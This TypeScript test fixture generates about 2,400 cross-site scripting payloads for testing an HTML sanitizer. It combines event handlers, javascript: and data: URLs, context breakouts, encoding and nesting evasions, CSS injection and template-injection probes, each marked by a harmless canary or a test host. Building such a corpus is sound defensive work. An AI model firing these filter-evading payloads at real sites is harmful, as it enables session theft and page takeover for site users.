/** Hostile content, made from classes: what carries a script × what starts it × how it is written × what it breaks out of. */

/** Sets a mark that every test looks for, in whatever frame it runs. */
export const CANARY = 'top.kimCanary=1';
/** A name that is this machine in the tests' browsers, and never the API. */
export const FOREIGN = 'jahat.test';

const cross = <A, B>(as: readonly A[], bs: readonly B[], join: (a: A, b: B, index: number) => string): string[] => as.flatMap((a, i) => bs.map((b, j) => join(a, b, i * bs.length + j)));
const mixed = (text: string): string => [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('');

const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'video><source', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus', 'button autofocus', 'a tabindex=0 href=#', 'marquee', 'iframe', 'object data=x', 'embed src=x', 'math tabindex=0', 'form', 'p contenteditable', 'kim-news-feed', 'svg><animate attributeName=x dur=1s', 'svg><set attributeName=x'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'ontoggle', 'onpointerenter', 'onanimationstart', 'ontransitionend', 'onbeforeinput', 'onbegin', 'onwheel', 'onscrollend', 'onbeforetoggle', 'onfocusin', 'onpageshow'];
const BETWEEN = [' ', '/', '\t', '\n', '\f', ' a="" '];
const QUOTED = [`=${CANARY}`, `="${CANARY}"`, `='${CANARY}'`, `=\`${CANARY}\``, `\n=\n"${CANARY}"`];

const handlers = cross(TAGS, HANDLERS, (tag, handler, index) => `<${index % 3 ? tag : mixed(tag)}${BETWEEN[index % BETWEEN.length]!}${index % 2 ? handler : mixed(handler)}${QUOTED[index % QUOTED.length]!}${index % 7 === 0 ? '' : '>'}`);
const spoken = cross(TAGS, HANDLERS.slice(0, 12), (tag, handler, index) => `Berita${BETWEEN[(index + 2) % BETWEEN.length]!}<${tag}${BETWEEN[(index + 1) % BETWEEN.length]!}${handler}${QUOTED[(index + 3) % QUOTED.length]!}//></${tag.split(/\W/)[0]!}>`);

const ENCODED = btoa(`<script>${CANARY}</script>`);
const PROTOCOLS = [`javascript:${CANARY}`, `${mixed('javascript')}:${CANARY}`, `java\tscript:${CANARY}`, `java\nscript:${CANARY}`, `\u0001javascript:${CANARY}`, ` \u00a0javascript:${CANARY}`, `javascript&colon;${CANARY}`, `&#106;avascript:${CANARY}`, `&#x6A;avascript:${CANARY}`, `javascript://%0a${CANARY}`, `javascript:/*--></title>*/${CANARY}`, `data:text/html,<script>${CANARY}</script>`, `data:text/html;base64,${ENCODED}`, `data:image/svg+xml,<svg onload="${CANARY}">`, `vbscript:${CANARY}`, `//${FOREIGN}/a`, `http://${FOREIGN}/a`, `\\\\${FOREIGN}\\a`, `feed:javascript:${CANARY}`, `jar:javascript:${CANARY}!/`, `view-source:javascript:${CANARY}`];
const CARRIERS = ['<a href="$">x</a>', "<a href='$' target=_blank>x</a>", '<a href=$>x</a>', '<area href="$">', '<form action="$"><button>x</button></form>', '<button formaction="$">x</button>', '<iframe src="$"></iframe>', '<iframe srcdoc="$"></iframe>', '<object data="$"></object>', '<embed src="$">', '<svg><a xlink:href="$"><text>x</text></a></svg>', '<svg><use href="$"/></svg>', '<svg><animate attributeName=href values="$"/></svg>', '<math href="$">x</math>', '<base href="$">', '<link rel=stylesheet href="$">', '<meta http-equiv=refresh content="0;url=$">', '<img src="$">', '<img srcset="$ 1x">', '<video poster="$"></video>', '<input type=image src="$">', '<body background="$">', '<script src="$"></script>', '<style>@import "$";</style>', '<p style="background:url($)">x</p>', '<a ping="$" href="#">x</a>', '$'];
const protocols = cross(PROTOCOLS, CARRIERS, (protocol, carrier) => carrier.replace('$', protocol));

const BREAKS = ['"', "'", '`', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '</noscript>', '</template>', '\\"', '&quot;>', '%22%3E', '${', '{{', '\u2028', '\ufeff'];
const TAILS = [`<script>${CANARY}</script>`, ` onfocus=${CANARY} autofocus x=`, `<img src=x onerror=${CANARY}>`, `;${CANARY};//`, `-${CANARY}-`, `<svg/onload=${CANARY}>`, `{{constructor.constructor('${CANARY}')()}}`, ` style=animation:x onanimationstart=${CANARY} `];
const breaks = cross(BREAKS, TAILS, (open, tail) => open + tail);

const BASES = [`<img src=x onerror=${CANARY}>`, `<script>${CANARY}</script>`, `<svg onload=${CANARY}>`, `<a href="javascript:${CANARY}">x</a>`, `<iframe srcdoc="<script>${CANARY}</script>">`, `"><script>${CANARY}</script>`];
const each = (text: string, write: (code: number) => string): string => [...text].map((letter) => write(letter.codePointAt(0)!)).join('');
const ENCODINGS: ((text: string) => string)[] = [
  (t) => each(t, (c) => `&#${c};`), (t) => each(t, (c) => `&#x${c.toString(16)};`), (t) => each(t, (c) => `&#0000${c}`), encodeURIComponent, (t) => encodeURIComponent(encodeURIComponent(t)),
  (t) => each(t, (c) => `\\u${c.toString(16).padStart(4, '0')}`), (t) => each(t, (c) => `\\x${c.toString(16).padStart(2, '0')}`), (t) => t.replace(/</g, '&lt;').replace(/>/g, '&gt;'), (t) => t.replace(/</g, '&amp;lt;'), (t) => t.replace(/</g, '＜').replace(/>/g, '＞'), (t) => t.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (t) => t.replace(/(?<=\w)(?=\w)/g, '\u200b'), (t) => t.replace(/</g, '<\u0000'), (t) => t.replace(/(?<=<)/g, '<'), (t) => t.toUpperCase().replace(CANARY.toUpperCase(), CANARY), (t) => t.replace('<', '<<').replace(/>$/, ''), (t) => `\ufeff${t}`, (t) => t.replace(/=/g, '\u00a0='), (t) => `<!--${t}-->`, (t) => `<![CDATA[${t}]]>`, (t) => `<?xml ${t}?>`, (t) => `<!${t}`,
];
const encodings = cross(BASES, ENCODINGS, (base, encode) => encode(base));

const WRAPPERS = ['noscript', 'template', 'math><mtext', 'svg><foreignObject', 'svg><title', 'svg><desc', 'svg><style', 'select', 'select><template', 'table', 'table><caption', 'textarea', 'xmp', 'noembed', 'noframes', 'plaintext', 'listing', 'form><math><mtext></form><form', 'math><annotation-xml encoding=text/html', 'style', 'title', 'iframe', 'option', 'frameset', 'div style=visibility:hidden', 'slot', 'template shadowrootmode=open'];
const INNER = [`<img src=x onerror=${CANARY}>`, `<p title="</$><img src=x onerror=${CANARY}>">`, `<!--</$><img src=x onerror=${CANARY}>-->`, `<mglyph><style></math><img src=x onerror=${CANARY}>`, `</$><script>${CANARY}</script>`, `<a id="</$><svg onload=${CANARY}>">`];
const nested = cross(WRAPPERS, INNER, (wrapper, inner, index) => { const last = wrapper.split('><').at(-1)!.split(' ')[0]!; return `<${wrapper}>${inner.replaceAll('$', last)}${index % 2 ? `</${last}>` : ''}`; });

const DECLARATIONS = [`background:url(javascript:${CANARY})`, `background:url(//${FOREIGN}/c)`, `width:expression(${CANARY})`, `-moz-binding:url(//${FOREIGN}/x#x)`, `behavior:url(//${FOREIGN}/x)`, `list-style:url("data:text/html,${CANARY}")`, `content:url(//${FOREIGN}/d)`, `--kim-accent:url(//${FOREIGN}/e)`, `position:fixed;inset:0;z-index:9999`];
const STYLES = ['<p style="$">x</p>', '<style>*{$}</style>', '<style>@import "//jahat.test/i";*{$}</style>', '<svg><style>*{$}</style></svg>', '$', '"></style><style>*{$}', '<font style=\'$\'>x</font>'];
const styles = cross(DECLARATIONS, STYLES, (declaration, style) => style.replace('$', declaration));

const ODD = ['__proto__', 'constructor', 'toString', '<!--?lit$1$-->', '<?lit$0?>', '${alert(1)}', '#{7*7}', '<%= 7*7 %>', '{{7*7}}', '\u202e<script>', '\ud800', '\u0000', '<', '>', '&', '"', "'", '`', '</', '<a', '<!', '<script', 'a'.repeat(5000)];

/** About 2,400 different ones. */
export const PAYLOADS: readonly string[] = [...new Set([...handlers, ...spoken, ...protocols, ...breaks, ...encodings, ...nested, ...styles, ...ODD, ...protocols.map((text, index) => `${BREAKS[index % BREAKS.length]!}${text}${TAILS[index % TAILS.length]!}`), ...nested.map((text, index) => `${TAILS[index % TAILS.length]!}${text}`)])];
